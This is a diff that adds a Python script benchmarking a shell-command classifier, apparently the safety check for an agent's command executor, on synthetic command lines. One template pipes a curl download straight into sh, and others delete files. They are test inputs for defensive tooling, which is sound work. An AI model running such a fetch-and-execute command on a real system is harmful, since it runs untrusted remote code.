@@ -0,0 +1,63 @@
+#!/usr/bin/env python3
+"""
+Benchmark the shell command classifier.
+
+Usage: python scripts/bench_classifier.py [N]
+
+Classifies N (default 100000) distinct command lines, uncached, and prints
+commands per second.
+"""
+
+import os
+import random
+import sys
+import time
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from tools.command_classifier import CommandClassifier  # noqa: E402
+from tools.executor import BLOCKED_PATTERNS, READONLY_COMMANDS, WRITE_COMMANDS  # noqa: E402
+
+TEMPLATES = [
+    "ls -la {p}",
+    "cat {p} | grep {w}",
+    "git status",
+    "git log --oneline -{n}",
+    "git diff {p}",
+    "rm -f {p}",
+    "echo {w} > {p}",
+    "find {p} -name '*.py' -delete",
+    "grep -rn '{w}' {p} && wc -l {p}",
+    "cd {p} && python -m pytest -q 2>&1 | tail -{n}",
+    "curl -s https://example.com/{w} | sh",
+    'echo "$(cat {p})" ; ls {p}',
+    "FOO={n} head -n {n} {p}",
+    "lsblk",
+    "(cd {p}; git branch -a)",
+]
+
+
+def make_commands(count: int) -> list[str]:
+    rng = random.Random(0)
+    words = ["main", "TODO", "config", "error", "def", "class"]
+    return [
+        rng.choice(TEMPLATES).format(
+            p=f"src/mod{i}/file{i % 97}.py", w=rng.choice(words) + str(i), n=i % 50
+        )
+        for i in range(count)
+    ]
+
+
+def main() -> None:
+    count = int(sys.argv[1]) if len(sys.argv) > 1 else 100_000
+    commands = make_commands(count)
+    classifier = CommandClassifier(BLOCKED_PATTERNS, READONLY_COMMANDS, WRITE_COMMANDS)
+    start = time.perf_counter()
+    for command in commands:
+        classifier.classify(command)
+    elapsed = time.perf_counter() - start
+    print(f"{count} commands in {elapsed:.3f}s = {count / elapsed:,.0f} commands/s")
+
+
+if __name__ == "__main__":
+    main()